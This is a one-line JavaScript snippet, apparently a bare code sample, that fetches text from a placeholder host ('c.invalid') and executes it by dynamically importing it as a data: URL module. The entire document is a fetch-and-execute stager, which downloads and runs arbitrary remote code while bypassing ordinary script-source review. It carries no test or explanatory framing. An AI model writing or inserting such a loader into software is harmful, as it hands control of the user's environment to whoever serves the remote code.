const t = await (await fetch('https://c.invalid/m')).text(); await import('data:text/javascript,' + encodeURIComponent(t));
